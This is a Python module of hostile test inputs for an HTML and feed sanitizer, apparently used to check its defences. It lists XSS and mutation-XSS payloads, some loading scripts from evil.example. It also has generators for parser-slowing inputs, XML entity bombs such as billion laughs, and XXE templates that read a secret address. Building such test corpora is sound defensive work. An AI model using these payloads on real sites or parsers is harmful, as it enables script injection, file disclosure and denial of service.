"""Inputs that have hurt others: scripts that hide, mutations, entities, and shapes that cost more than their size."""

from collections.abc import Callable

# Each of these has run, in some browser, after some sanitizer; {mark} tells where it came through.
XSS = (
    "<script>alert('{mark}')</script>",
    "<SCRIPT SRC=https://evil.example/{mark}.js></SCRIPT>",
    "<scr<script>ipt>alert('{mark}')</scr</script>ipt>",
    "<img src=x onerror=alert('{mark}')>",
    "<img/src=x/onerror=alert('{mark}')//",
    "<img src=\"javascript:alert('{mark}')\">",
    "<img src=`x`onerror=alert('{mark}')>",
    "<img src=x:x onerror\x0b=alert('{mark}')>",
    "<a href=\"javascript:alert('{mark}')\">x</a>",
    "<a href=\"java\tscript:alert('{mark}')\">x</a>",
    "<a href=\"java&#10;script:alert('{mark}')\">x</a>",
    "<a href=\"&#106;avascript&colon;alert('{mark}')\">x</a>",
    "<a href=\"\x01javascript:alert('{mark}')\">x</a>",
    '<a href="vbscript:msgbox(1)">{mark}</a>',
    "<a href=\"data:text/html,<script>alert('{mark}')</script>\">x</a>",
    "<svg onload=alert('{mark}')>",
    "<svg><script>alert('{mark}')</script></svg>",
    "<svg><a xlink:href=javascript:alert('{mark}')><text>x</text></a></svg>",
    "<svg><animate onbegin=alert('{mark}') attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\">{mark}",
    "<math><mi//xlink:href=\"javascript:alert('{mark}')\">x",
    "<math href=\"javascript:alert('{mark}')\">x</math>",
    "<iframe src=javascript:alert('{mark}')></iframe>",
    "<iframe srcdoc='<script>alert(`{mark}`)</script>'></iframe>",
    "<object data=javascript:alert('{mark}')></object>",
    "<embed src=javascript:alert('{mark}')>",
    "<form action=javascript:alert('{mark}')><input type=submit></form>",
    "<button formaction=javascript:alert('{mark}')>x</button>",
    "<input autofocus onfocus=alert('{mark}')>",
    "<body onload=alert('{mark}')>",
    "<base href='javascript:alert(`{mark}`)//'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(`{mark}`)'>",
    "<link rel=stylesheet href=https://evil.example/{mark}.css>",
    "<style>@import 'https://evil.example/{mark}.css';</style>",
    "<div style=\"background:url(javascript:alert('{mark}'))\">x</div>",
    '<p style="position:fixed;inset:0">{mark}</p>',
    "<details open ontoggle=alert('{mark}')>x</details>",
    "<video><source onerror=alert('{mark}')></video>",
    "<video poster=javascript:alert('{mark}')></video>",
    "<audio src=x onerror=alert('{mark}')>",
    "<marquee onstart=alert('{mark}')>x</marquee>",
    "<table background=javascript:alert('{mark}')>x</table>",
    "<isindex type=image src=1 onerror=alert('{mark}')>",
    "<xmp><img src=x onerror=alert('{mark}')></xmp>",
    "<template><img src=x onerror=alert('{mark}')></template>",
    "<!--[if IE]><script>alert('{mark}')</script><![endif]-->",
    "<!--><script>alert('{mark}')</script>-->",
    "<!-- --!><img src=x onerror=alert('{mark}')>-->",
    "<![CDATA[<img src=x onerror=alert('{mark}')>]]>",
    "<?xml-stylesheet href=javascript:alert('{mark}')?>",
    "<a title=\"</a><img src=x onerror=alert('{mark}')>\">x</a>",
    "<a href='https://x.example/' onmouseover='alert(`{mark}`)'>x</a>",
    "\"><img src=x onerror=alert('{mark}')>",
    "'><script>alert('{mark}')</script>",
    "]]><script>alert('{mark}')</script>",
    "</title><script>alert('{mark}')</script>",
    "</textarea><script>alert('{mark}')</script>",
    "&lt;script&gt;alert('{mark}')&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert('{mark}')&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=alert('{mark}')&#62;",
    "\uff1cscript\uff1ealert('{mark}')\uff1c/script\uff1e",
    "<img src=https://x.example/a.png srcset='javascript:alert(`{mark}`) 1x'>",
    "<dialog open oncancel=alert('{mark}')>x</dialog>",
    "<portal src=javascript:alert('{mark}')></portal>",
)

# Safe when parsed once, active when what was parsed is written and parsed again.
MXSS = (
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{mark}')>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert('{mark}')>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('{mark}')&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('{mark}')>",
    "<math><mtext><table><mglyph><style><![CDATA[</style><img title=\"]]&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert('{mark}')&gt;\">",
    "<svg><foreignObject><math><mi><style><img title='</style><img src=x onerror=alert(`{mark}`)>'>",
    "<listing>&lt;img src=x onerror=alert('{mark}')&gt;</listing>",
    "<textarea><img title='</textarea><img src=x onerror=alert(`{mark}`)>'>",
    "<title><a title='</title><img src=x onerror=alert(`{mark}`)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(`{mark}`)>'>",
    "<iframe><p title='</iframe><img src=x onerror=alert(`{mark}`)>'></iframe>",
    "<noembed><p title='</noembed><img src=x onerror=alert(`{mark}`)>'>",
    "<plaintext><img src=x onerror=alert('{mark}')>",
    "<p id=\"&#x3c;/p&#x3e;&#x3c;img src=x onerror=alert('{mark}')&#x3e;\">x</p>",
    "<table><td><svg><desc><img src=x onerror=alert('{mark}')></desc></svg>",
    "<select><template><svg><style><img src=x onerror=alert('{mark}')></style></svg></template></select>",
    "<a href=\"https://x.example/?`onmouseover=alert('{mark}')`\">x</a>",
    "<p><ruby><rtc><img src=x onerror=alert('{mark}')>",
    "<svg><title><style>*{{}}</title><img src=x onerror=alert('{mark}')></style>",
    "<annotation-xml encoding=text/html><img src=x onerror=alert('{mark}')>",
)

CAP = 1_000_000


def _times(piece: str) -> Callable[[int], str]:
    return lambda size: piece * (size // len(piece))


# Shapes that cost some library more than their size: for HTML bodies, by name, from a size in characters.
SLOW_HTML: dict[str, Callable[[int], str]] = {
    "nested divs": _times("<div>"),
    "nested spans closed": lambda size: "<span>" * (size // 13) + "</span>" * (size // 13),
    "nested lists": _times("<ul><li>"),
    "nested tables": _times("<table><tr><td>"),
    "nested quotes": _times("<blockquote><p>"),
    "unclosed links": _times("<a href=x>"),
    "misnested formatting": _times("<b><i><p></b></i>"),
    "misnested blocks": _times("<b><div><a></b>"),
    "open comments": _times("<!--"),
    "dashes": lambda size: "<!" + "-" * size,
    "less-than signs": _times("<"),
    "open tags": _times("<a "),
    "ampersands": _times("&"),
    "entities": _times("&amp"),
    "declarations": _times("<!x"),
    "instructions": _times("<?x"),
    "cdata": _times("<![CDATA["),
    "attributes": lambda size: "<p " + " ".join(f"a{n}=1" for n in range(size // 8)) + ">x</p>",
    "endless name": lambda size: "<" + "a" * size,
    "endless tag": lambda size: "<p " + "a " * (size // 2),
    "same attribute": lambda size: "<p " + "a=1 " * (size // 4) + ">x</p>",
    "one long word": lambda size: f"<p>{'x' * size}</p>",
    "numbered paragraphs": _times("<p>1. Alpha</p>"),
    "one long line of blanks": lambda size: f"<p>x{' ' * size}x</p>",
    "line breaks": _times("<br>"),
    "empty paragraphs": _times("<p></p>"),
    "short paragraphs": _times("<p>Share</p>"),
    "many links": _times("<a href='https://x.example/'>x</a> "),
    "brackets": _times("[[("),
    "shortcodes": _times("[x a="),
    "quotes": _times('“’"'),
    "capitals": _times("COPYRIGHT SHARE FOLLOW\n"),
    "percent signs": lambda size: f"<a href='https://x.example/{'%' * size}'>x</a>",
    "dots": lambda size: f"<p>{'.' * size}</p>",
    "at signs": lambda size: f"<p>{'a@' * (size // 2)}</p>",
    "slashes": lambda size: f"<p>https://{'/' * size}</p>",
    "numbers": lambda size: f"<p>{'1 ' * (size // 2)}</p>",
    "combining marks": lambda size: "<p>a" + "\u0301" * size + "</p>",
    "deep svg": _times("<svg><g>"),
    "select options": _times("<select><option>"),
    "noscript": _times("<noscript><p>"),
    "style": _times("<style>*{}"),
    "nul and friends": lambda size: f"<p>{chr(0) * size}</p>",
}

# The same for whole feeds.
SLOW_FEEDS: dict[str, Callable[[int], str]] = {
    "root attributes": lambda size: "<rss " + " ".join(f"a{n}='1'" for n in range(size // 10)) + "><channel/></rss>",
    "namespaces": lambda size: "<rss " + " ".join(f"xmlns:a{n}='u{n}'" for n in range(size // 18)) + "/>",
    "open comments": _times("<!--"),
    "nested elements": lambda size: "<rss><channel><item>" + "<a>" * (size // 3),
    "nested items": lambda size: "<rss><channel>" + "<item>" * (size // 6),
    "nested namespaces": lambda size: "<rss>" + "".join(f"<a xmlns='u{n}'>" for n in range(size // 16)),
    "entity references": lambda size: "<rss><channel><title>" + "&nosuch;" * (size // 8),
    "open doctype": lambda size: "<!DOCTYPE rss [" + "<!ENTITY a 'b'>" * (size // 15),
    "doctype brackets": lambda size: "<!DOCTYPE " + "[" * size,
    "tiny items": lambda size: "<rss version='2.0'><channel>" + "<item/>" * (size // 7) + "</channel></rss>",
    "many categories": lambda size: (
        "<rss version='2.0'><channel><item><title>x</title>"
        + "<category>x</category>" * (size // 22)
        + "</item></channel></rss>"
    ),
    "many links": lambda size: (
        "<feed xmlns='http://www.w3.org/2005/Atom'><entry>" + "<link href='x'/>" * (size // 16) + "</entry></feed>"
    ),
    "many enclosures": lambda size: (
        "<rss version='2.0'><channel><item>"
        + "<enclosure url='x' type='a/b'/>" * (size // 31)
        + "</item></channel></rss>"
    ),
    "date of digits": lambda size: (
        f"<rss version='2.0'><channel><item><title>x</title><pubDate>{'1' * size}</pubDate></item></channel></rss>"
    ),
    "date of words": lambda size: (
        f"<rss version='2.0'><channel><item><title>x</title><pubDate>{'Mon ' * (size // 4)}</pubDate></item></channel></rss>"
    ),
    "long title": lambda size: (
        f"<rss version='2.0'><channel><item><title>{'a <' * (size // 3)}</title></item></channel></rss>"
    ),
    "long author": lambda size: (
        f"<rss version='2.0'><channel><item><title>x</title><author>{'(a ' * (size // 3)}</author></item></channel></rss>"
    ),
    "author of one word": lambda size: (
        f"<rss version='2.0'><channel><item><title>x</title><author>{'a' * size}</author></item></channel></rss>"
    ),
    "long guid": lambda size: (
        f"<rss version='2.0'><channel><item><guid>{'a' * size}</guid><title>x</title></item></channel></rss>"
    ),
    "long link": lambda size: (
        f"<rss version='2.0'><channel><item><link>http://{'a/../' * (size // 5)}</link><title>x</title></item></channel></rss>"
    ),
    "json depth": lambda size: '{"version":"https://jsonfeed.org/version/1.1","title":"x","items":' + "[" * size,
    "json objects": lambda size: '{"a":' * (size // 5),
    "json number": lambda size: f'{{"version":"https://jsonfeed.org/version/1.1","items":[{{"id":{"9" * size}}}]}}',
    "sitemap": lambda size: (
        "<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>"
        + "<url><loc>https://x/</loc></url>" * (size // 34)
    ),
}

XML_BOMBS = {
    "billion laughs": "<!DOCTYPE r [<!ENTITY a 'lol'>"
    + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(10))
    + "]><rss version='2.0'><channel><title>&k;</title><item><title>&k;</title></item></channel></rss>",
    "quadratic": f"<!DOCTYPE r [<!ENTITY a '{'x' * 50_000}'>]><rss version='2.0'><channel><title>{'&a;' * 50_000}</title></channel></rss>",
    "parameter entities": "<!DOCTYPE r [<!ENTITY % a '<!ENTITY b \"x\">'>" + "%a;" * 1_000 + "]><rss><channel/></rss>",
    "recursive": "<!DOCTYPE r [<!ENTITY a '&b;'><!ENTITY b '&a;'>]><rss><channel><title>&a;</title></channel></rss>",
}

# {secret} is the address of something that must not be read.
XXE = (
    "<!DOCTYPE r [<!ENTITY x SYSTEM '{secret}'>]><rss version='2.0'><channel><title>&x;</title>"
    "<item><title>&x;</title><description>&x;</description></item></channel></rss>",
    "<!DOCTYPE r [<!ENTITY % x SYSTEM '{secret}'>%x;]><rss version='2.0'><channel><item><title>a</title></item></channel></rss>",
    "<!DOCTYPE rss SYSTEM '{secret}'><rss version='2.0'><channel><item><title>a</title></item></channel></rss>",
    "<!DOCTYPE rss PUBLIC '-//a//b' '{secret}'><rss version='2.0'><channel><item><title>a</title></item></channel></rss>",
    "<rss version='2.0' xmlns:xi='http://www.w3.org/2001/XInclude'><channel><item><title>a</title>"
    "<description><xi:include href='{secret}' parse='text'/></description></item></channel></rss>",
    "<?xml-stylesheet type='text/xsl' href='{secret}'?><rss version='2.0'><channel><item><title>a</title></item></channel></rss>",
    "<rss version='2.0' xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:noNamespaceSchemaLocation='{secret}'>"
    "<channel><item><title>a</title></item></channel></rss>",
    "<feed xmlns='http://www.w3.org/2005/Atom'><entry><id>a</id><title>a</title><content src='{secret}'/></entry></feed>",
    "{secret}",
)
